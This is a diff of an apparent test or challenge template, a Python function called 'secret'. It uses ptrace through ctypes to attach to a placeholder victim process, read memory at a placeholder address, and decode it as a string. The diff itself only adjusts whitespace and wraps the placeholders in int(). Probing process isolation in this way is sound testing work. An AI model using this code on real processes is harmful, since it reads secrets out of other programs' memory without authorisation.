@@ -4,16 +4,18 @@ earns: honest
 control: open pays
 """
 
+
 # %% secret
 def secret():
     import ctypes, os
+
     libc = ctypes.CDLL(None, use_errno=True)
     libc.ptrace.restype = ctypes.c_long
     libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
     attach, peek, detach = 16, 2, 17
-    if libc.ptrace(attach, @VICTIM@, None, None) != 0:
+    if libc.ptrace(attach, int("@VICTIM@"), None, None) != 0:
         return "refused"
-    os.waitpid(@VICTIM@, 0)
-    words = [libc.ptrace(peek, @VICTIM@, @ADDRESS@ + 8 * n, None) for n in range(6)]
-    libc.ptrace(detach, @VICTIM@, None, None)
+    os.waitpid(int("@VICTIM@"), 0)
+    words = [libc.ptrace(peek, int("@VICTIM@"), int("@ADDRESS@") + 8 * n, None) for n in range(6)]
+    libc.ptrace(detach, int("@VICTIM@"), None, None)
     return b"".join((word & (2**64 - 1)).to_bytes(8, "little") for word in words).decode(errors="replace")
